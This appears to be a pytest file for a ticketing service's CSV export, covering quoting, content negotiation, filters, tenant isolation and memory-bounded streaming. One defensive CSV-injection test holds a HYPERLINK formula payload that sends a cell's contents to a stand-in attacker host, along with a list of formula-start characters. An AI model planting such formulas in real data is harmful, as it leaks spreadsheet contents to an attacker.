"""CSV export of ``GET /orders`` and ``GET /events/{id}/tickets`` (``Accept: text/csv``): every
matching row with the list's filters and sort, RFC 4180 quoting, content negotiation, the list's
scope and isolation, and a real ``ticketing serve`` process streaming 100,000 tickets in bounded
memory and giving its connection back when the client goes away."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from httpx import AsyncClient

from db.tables import Ticket
from tests.dates import YEAR
from tests.processes import served
from tests.support import (
    Tenant,
    create_venue,
    key_for,
    ok,
    order_tickets,
    place_order,
    problem,
)

CSV = {"Accept": "text/csv"}
ORDER_COLUMNS = [
    "id", "event_id", "event_timeslot_id", "buyer_name", "buyer_email", "channel",
    "payment_method", "total_price", "refunded", "payed_at", "created_at", "updated_at", "status",
]  # fmt: skip
TICKET_COLUMNS = [
    "id", "scannable_code", "signed_code", "event_timeslot_id", "ticket_type_id", "order_id",
    "owner_name", "owner_email", "seat", "sequence", "scanned_at", "status", "cancelled_at",
    "swappable", "created_at", "updated_at", "metadata", "metadata_fields",
]  # fmt: skip
MONEY = {"total_price", "refunded"}
TRICKY_NAME = 'Doe, "Jo"\nZoë Ærøskøbing 東京'
TRICKY_EMAIL = "zoë.ærø@exämple.com"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def parse(text: str) -> tuple[list[str], list[dict[str, str]]]:
    """The header and rows of a CSV text (line breaks inside quoted fields kept)."""
    reader = csv.reader(io.StringIO(text, newline=""), strict=True)
    header, *rows = list(reader)
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def as_cell(field: str, value: Any) -> str:
    """What the export writes for a JSON value of the record (the documented flattening)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if field in MONEY:
        return f"{value:.2f}"
    if isinstance(value, dict | list):
        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return str(value)


def assert_same(rows: list[dict[str, str]], records: list[dict[str, Any]]) -> None:
    """Each CSV row is the JSON record of the same position, field by field."""
    assert [row["id"] for row in rows] == [record["id"] for record in records]
    for row, record in zip(rows, records, strict=True):
        assert row == {field: as_cell(field, value) for field, value in record.items()}


async def export(client: AsyncClient, tenant: Tenant, path: str, **params: Any) -> httpx.Response:
    response = await client.get(path, params=params, headers={**tenant.headers, **CSV})
    assert response.status_code == 200, response.text
    return response


async def every_json(client: AsyncClient, tenant: Tenant, path: str, **params: Any) -> list[Any]:
    """Every record of a JSON list (pages of 100)."""
    found: list[Any] = []
    while True:
        page = ok(
            await client.get(
                path, params={**params, "limit": 100, "offset": len(found)}, headers=tenant.headers
            )
        )
        found += page["data"]
        if not page["pagination"]["has_more"]:
            return found


@dataclass
class Shop:
    event_id: str
    orders: list[dict[str, Any]]
    tricky: dict[str, Any]


async def open_shop(client: AsyncClient, tenant: Tenant) -> Shop:
    """An event with a pending, a confirmed and a cancelled order; one buyer and one ticket
    owner with a comma, quotes, a line break and non-ASCII letters in name and e-mail."""
    venue = await create_venue(client, tenant, price=12.5)
    event_id, slot, kind = venue.event["id"], venue.timeslot["id"], venue.ticket_type["id"]
    tricky = await place_order(
        client, tenant, event_id, slot, [kind, kind], buyer_name=TRICKY_NAME,
        buyer_email=TRICKY_EMAIL, confirm=True,
        tickets=[
            {"ticket_type_id": kind, "owner_name": TRICKY_NAME, "owner_email": TRICKY_EMAIL,
             "seat": "R1, 7", "metadata": {"note": 'a, "b"\nc', "größe": ["M", 1.5, None]},
             "metadata_fields": [{"key": "diet", "name": "Diät", "value": "vegan, \"strict\""}]},
            {"ticket_type_id": kind},
        ],
    )  # fmt: skip
    pending = await place_order(client, tenant, event_id, slot, [kind], buyer_email="p@x.example")
    cancelled = await place_order(client, tenant, event_id, slot, [kind])
    ok(await client.post(f"/orders/{cancelled['id']}/cancel", headers=tenant.headers))
    return Shop(event_id, [tricky, pending, cancelled], tricky)


async def test_orders_csv_is_every_order_as_the_json_list_has_it(
    client: AsyncClient, tenant: Tenant
) -> None:
    await open_shop(client, tenant)
    response = await export(client, tenant, "/orders")
    assert response.headers["content-type"] == "text/csv; header=present; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="orders.csv"'
    header, rows = parse(response.content.decode("utf-8"))
    assert header == ORDER_COLUMNS
    assert_same(rows, await every_json(client, tenant, "/orders"))
    assert len(rows) == 3


async def test_quoting_follows_rfc_4180(client: AsyncClient, tenant: Tenant) -> None:
    shop = await open_shop(client, tenant)
    text = (await export(client, tenant, "/orders", sort="created_at:asc")).content.decode()
    lines = text.split("\r\n")
    assert lines[0] == ",".join(ORDER_COLUMNS) and text.endswith("\r\n")
    # Quotes doubled, the field quoted, its line break kept inside the quotes.
    assert lines[1].startswith(f"{shop.tricky['id']},{shop.event_id},")
    assert f',"Doe, ""Jo""\nZoë Ærøskøbing 東京",{TRICKY_EMAIL},online,card,25.00,0.00,' in text
    [_, row, *_] = [row for row in csv.reader(io.StringIO(text, newline=""))]
    assert row[3] == TRICKY_NAME and row[4] == TRICKY_EMAIL

    tickets_text = (
        await export(client, tenant, f"/events/{shop.event_id}/tickets", sort="created_at:asc")
    ).content.decode()
    header, rows = parse(tickets_text)
    assert header == TICKET_COLUMNS
    [first] = [row for row in rows if row["seat"]]
    assert first["owner_name"] == TRICKY_NAME and first["owner_email"] == TRICKY_EMAIL
    assert first["seat"] == "R1, 7" and first["swappable"] == "false"
    assert first["scanned_at"] == "" and first["created_at"].endswith("Z")
    assert first["signed_code"].startswith("T1.") and len(first["signed_code"]) == 186
    assert json.loads(first["metadata"]) == {"note": 'a, "b"\nc', "größe": ["M", 1.5, None]}
    [field] = json.loads(first["metadata_fields"])
    assert (field["key"], field["name"], field["value"]) == ("diet", "Diät", 'vegan, "strict"')


async def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
    client: AsyncClient, tenant: Tenant
) -> None:
    """CSV injection (OWASP): a buyer's name like ``=HYPERLINK(...)`` would be a live link (or
    worse) in the spreadsheet of whoever opens the export; with a ``'`` in front it is text."""
    venue = await create_venue(client, tenant, price=12.5)
    event_id, slot, kind = venue.event["id"], venue.timeslot["id"], venue.ticket_type["id"]
    names = [FORMULA, "+31 20 555 0100", "-Dash", "@SUM(A1:A9)", "Ada = Buyer"]
    tickets = [{"ticket_type_id": kind, "owner_name": name} for name in names]
    order = await place_order(
        client, tenant, event_id, slot, [], buyer_name=FORMULA, tickets=tickets, confirm=True
    )
    assert order["buyer_name"] == FORMULA  # stored and listed as typed

    _, [row] = parse((await export(client, tenant, "/orders")).content.decode())
    assert row["buyer_name"] == f"'{FORMULA}"
    assert row["total_price"] == "62.50" and row["refunded"] == "0.00"  # numbers stay numbers
    _, rows = parse((await export(client, tenant, f"/events/{event_id}/tickets")).content.decode())
    assert sorted(row["owner_name"] for row in rows) == sorted(
        [f"'{FORMULA}", "'+31 20 555 0100", "'-Dash", "'@SUM(A1:A9)", "Ada = Buyer"]
    )
    assert {row["sequence"] for row in rows} == {"1", "2", "3", "4", "5"}


async def test_tickets_csv_is_every_ticket_of_the_event(
    client: AsyncClient, tenant: Tenant
) -> None:
    shop = await open_shop(client, tenant)
    other = await create_venue(client, tenant)
    await place_order(
        client, tenant, other.event["id"], other.timeslot["id"], [other.ticket_type["id"]]
    )
    path = f"/events/{shop.event_id}/tickets"
    response = await export(client, tenant, path)
    assert response.headers["content-disposition"] == (
        f'attachment; filename="event-{shop.event_id}-tickets.csv"'
    )
    _, rows = parse(response.text)
    assert_same(rows, await every_json(client, tenant, path))
    assert len(rows) == 4


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"status": "confirmed"}, ["tricky"]),
        ({"status": "pending"}, ["pending"]),
        ({"buyer_email": "P@X.Example"}, ["pending"]),
        ({"buyer_email": TRICKY_EMAIL.upper()}, ["tricky"]),
        ({"status": "cancelled", "buyer_email": TRICKY_EMAIL}, []),
    ],
)
async def test_order_filters_apply(
    client: AsyncClient, tenant: Tenant, params: dict[str, str], expected: list[str]
) -> None:
    shop = await open_shop(client, tenant)
    named = {"tricky": shop.orders[0]["id"], "pending": shop.orders[1]["id"]}
    _, rows = parse((await export(client, tenant, "/orders", **params)).text)
    assert sorted(row["id"] for row in rows) == sorted(named[name] for name in expected)
    assert_same(rows, await every_json(client, tenant, "/orders", **params))


async def test_ticket_filters_and_sort_apply(client: AsyncClient, tenant: Tenant) -> None:
    shop = await open_shop(client, tenant)
    path = f"/events/{shop.event_id}/tickets"
    tricky_tickets = await order_tickets(client, tenant, shop.tricky)
    cancelled = shop.orders[2]
    for params in (
        {"status": "cancelled"},
        {"order_id": shop.tricky["id"]},
        {"owner_email": TRICKY_EMAIL},
        {"scannable_code": tricky_tickets[1]["scannable_code"]},
        {"updated_since": shop.tricky["created_at"], "sort": "owner_name:asc"},
        {"sort": "sequence:desc"},
    ):
        _, rows = parse((await export(client, tenant, path, **params)).text)
        assert_same(rows, await every_json(client, tenant, path, **params))
    _, rows = parse((await export(client, tenant, path, status="cancelled")).text)
    assert [row["order_id"] for row in rows] == [cancelled["id"]]


async def test_negotiation(client: AsyncClient, tenant: Tenant) -> None:
    await open_shop(client, tenant)
    for accept in (None, "*/*", "application/json", "application/*", "text/csv;q=0.5, */*"):
        headers = {**tenant.headers, **({"Accept": accept} if accept else {})}
        response = await client.get("/orders", headers=headers)
        assert response.headers["content-type"] == "application/json", accept
        assert len(ok(response)["data"]) == 3
    for accept in ("text/*", "text/csv; charset=utf-8", "application/json;q=0.2, text/csv"):
        response = await client.get("/orders", headers={**tenant.headers, "Accept": accept})
        assert response.headers["content-type"].startswith("text/csv"), accept
    for accept in ("application/xml", "text/html", "image/png, text/plain"):
        body = problem(
            await client.get("/orders", headers={**tenant.headers, "Accept": accept}), 406
        )
        assert "text/csv" in body["detail"] and "application/json" in body["detail"]


async def test_bad_requests_fail_before_any_row(
    client: AsyncClient, tenant: Tenant, other_tenant: Tenant
) -> None:
    shop = await open_shop(client, tenant)
    headers = {**tenant.headers, **CSV}
    for params, field in (
        ({"limit": "10"}, "limit"),
        ({"offset": "0"}, "offset"),
        ({"status": "lost"}, "status"),
        ({"sort": "price:asc"}, None),
        ({"created_since": f"{YEAR}-01-01T00:00:00"}, "created_since"),
    ):
        body = problem(await client.get("/orders", params=params, headers=headers), 400)
        assert field is None or field in {error["field"] for error in body["errors"]}
    problem(await client.get("/events/not-an-id/tickets", headers=headers), 400)
    # Another organization's event is a 404, and its orders are not in the caller's export.
    body = problem(
        await client.get(
            f"/events/{shop.event_id}/tickets", headers={**other_tenant.headers, **CSV}
        ),
        404,
    )
    assert shop.event_id in body["detail"]
    _, rows = parse((await export(client, other_tenant, "/orders")).text)
    assert rows == []
    # The list's scope: a key without orders.read gets a 403.
    reader = await key_for(tenant, ["tickets.read"])
    problem(await client.get("/orders", headers={**reader, **CSV}), 403)


async def test_openapi_documents_the_csv_answer(client: AsyncClient) -> None:
    document = ok(await client.get("/schema/openapi.json"))
    for path, columns in (
        ("/orders", ORDER_COLUMNS),
        ("/events/{event_id}/tickets", TICKET_COLUMNS),
    ):
        responses = document["paths"][path]["get"]["responses"]
        assert set(responses["200"]["content"]) == {"application/json", "text/csv"}
        schema = responses["200"]["content"]["text/csv"]["schema"]
        assert schema["type"] == "string" and ", ".join(columns) in schema["description"]
        assert "406" in responses


# A real server with 100,000 tickets.

BIG = 100_000
MEMORY_HEADROOM_BYTES = 32 * 1024 * 1024
"""What an export may add to the server's idle RSS (it adds about 8 MiB). The export is 27 MiB of
CSV and about 250 MiB as rows and records: an export that held all of it, or even only its text
(the text and its buffer), would exceed this; one chunk at a time stays far below."""


@dataclass
class BigEvent:
    tenant: Tenant
    event_id: str


@pytest.fixture(scope="module")
async def big_event(client: AsyncClient) -> BigEvent:
    """An event with 100,000 tickets: one order placed through the API, the tickets copied
    from its ticket in one INSERT ... SELECT (every tenth name needs quoting)."""
    from tests.support import new_tenant

    tenant = await new_tenant(name="Export Org")
    venue = await create_venue(client, tenant, capacity=10)
    order = await place_order(
        client, tenant, venue.event["id"], venue.timeslot["id"], [venue.ticket_type["id"]]
    )
    await Ticket.raw(
        "INSERT INTO tickets (id, organization_id, event_id, event_timeslot_id, ticket_type_id, "
        "order_id, scannable_code, owner_name, owner_email, seat, sequence, status, swappable, "
        "metadata, metadata_fields, created_at, updated_at) "
        "SELECT gen_random_uuid(), t.organization_id, t.event_id, t.event_timeslot_id, "
        "t.ticket_type_id, t.order_id, 'X' || md5(t.id::text || n::text), "
        "CASE WHEN n % 10 = 0 THEN 'Doe, \"Jo\"' || chr(10) || 'Zoë ' || n "
        "ELSE 'Guest ' || n END, 'guest' || n || '@example.com', NULL, n + 1, 'valid', FALSE, "
        "t.metadata, t.metadata_fields, t.created_at + n * interval '1 millisecond', now() "
        "FROM tickets t, generate_series(1, {}) AS n WHERE t.order_id = {}",
        BIG - 1,
        uuid.UUID(order["id"]),
    )
    await Ticket.raw("ANALYZE tickets")
    return BigEvent(tenant, venue.event["id"])


def _status_kib(pid: int, field: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(f"{field}:"):
            return int(line.split()[1])
    raise AssertionError(f"no {field} for process {pid}")


async def count_rows(response: httpx.Response) -> tuple[int, set[str]]:
    """The data rows of a streamed CSV response and their ids, parsed as the bytes arrive."""
    buffered, rows, ids = "", -1, set()
    async for text in response.aiter_text():
        buffered += text
        cut = buffered.rfind("\r\n") + 2
        complete, buffered = buffered[:cut], buffered[cut:]
        # A cut inside a quoted field leaves an odd number of quotes: keep it for later.
        if complete.count('"') % 2:
            buffered, complete = complete + buffered, ""
        for row in csv.reader(io.StringIO(complete, newline="")):
            rows += 1
            ids.add(row[0])
    assert buffered == ""
    return rows, ids - {"id"}


@pytest.mark.slow
async def test_100000_tickets_stream_in_bounded_memory(big_event: BigEvent) -> None:
    path = f"/events/{big_event.event_id}/tickets"
    headers = {**big_event.tenant.headers, **CSV}
    async with (
        served() as server,
        httpx.AsyncClient(base_url=server.url, timeout=60) as http,
    ):
        pid = server.process.pid
        # Warm up: every code path of an export once, on a few rows.
        ok(await http.get(path, params={"limit": 5}, headers=big_event.tenant.headers))
        small = await http.get(path, params={"status": "scanned"}, headers=headers)
        assert small.status_code == 200 and small.text.count("\r\n") == 1
        idle = _status_kib(pid, "VmRSS") * 1024
        # VmHWM (the peak RSS) starts again from the current RSS.
        Path(f"/proc/{pid}/clear_refs").write_text("5")  # noqa: ASYNC240
        async with http.stream("GET", path, headers=headers) as response:
            assert response.status_code == 200
            rows, ids = await count_rows(response)
        peak = _status_kib(pid, "VmHWM") * 1024
    assert rows == BIG and len(ids) == BIG
    assert peak - idle < MEMORY_HEADROOM_BYTES, (idle, peak)


async def _no_cursor() -> bool:
    """No session of the run's database is inside an export's statement or transaction."""
    rows = await Ticket.raw(
        "SELECT count(*) AS n FROM pg_stat_activity WHERE datname = current_database() "
        "AND state IN ('idle in transaction', 'active') "
        "AND query LIKE 'SELECT * FROM \"tickets\" WHERE%'"
    )
    return int(rows[0]["n"]) == 0


async def _poll(condition: Any, within: float = 20) -> None:
    deadline = asyncio.get_running_loop().time() + within
    while not await condition():
        assert asyncio.get_running_loop().time() < deadline, "condition not met in time"
        await asyncio.sleep(0.05)


@pytest.mark.slow
async def test_a_client_going_away_gives_the_connection_back(big_event: BigEvent) -> None:
    """Exports abandoned after their first bytes, more of them than the server has database
    connections: each one's cursor ends, and the server still answers afterwards."""
    path = f"/events/{big_event.event_id}/tickets"
    headers = {**big_event.tenant.headers, **CSV}
    async with served(TICKETING_DATABASE_POOL_SIZE="2") as server:
        for _ in range(5):
            async with httpx.AsyncClient(base_url=server.url, timeout=30) as http:  # noqa: SIM117
                async with http.stream("GET", path, headers=headers) as response:
                    assert response.status_code == 200
                    async for _chunk in response.aiter_bytes():
                        break  # the client goes away in the middle of the export
            await _poll(_no_cursor)
        async with httpx.AsyncClient(base_url=server.url, timeout=30) as http:
            page = ok(await http.get(path, params={"limit": 1}, headers=big_event.tenant.headers))
            assert page["pagination"]["total"] == BIG
            done = await http.get(path, params={"status": "valid"}, headers=headers)
            assert done.status_code == 200 and done.text.count("\r\n") == BIG + 1


@pytest.mark.slow
async def test_sqlite_exports_every_row_across_chunks(tmp_path: Path) -> None:
    """``ticketing demo`` on SQLite: 1,101 tickets (more than one chunk of 1,000) come out as
    the JSON list has them, tricky names included."""
    from tests.operations.test_demo import running_demo

    async with (
        running_demo(tmp_path / "demo.sqlite3") as demo,
        httpx.AsyncClient(base_url=demo.base_url, headers=demo.headers, timeout=60) as http,
    ):
        # The builders take a tenant for its key's headers.
        shop = Tenant(
            uuid.UUID(demo.organization_id), "demo", uuid.uuid4(), "", demo.key, uuid.uuid4()
        )
        venue = await create_venue(http, shop, capacity=2000)
        event_id, slot, kind = venue.event["id"], venue.timeslot["id"], venue.ticket_type["id"]
        await place_order(http, shop, event_id, slot, [kind], buyer_name=TRICKY_NAME)
        for _ in range(11):
            await place_order(http, shop, event_id, slot, [kind] * 100)
        path = f"/events/{event_id}/tickets"
        for route, params in ((path, {}), (path, {"sort": "owner_name:asc"}), ("/orders", {})):
            response = await export(http, shop, route, **params)
            _, rows = parse(response.text)
            assert_same(rows, await every_json(http, shop, route, **params))
        assert len(rows) >= 12
        _, tickets = parse((await export(http, shop, path)).text)
        assert len(tickets) == 1101 and TRICKY_NAME in {row["owner_name"] for row in tickets}
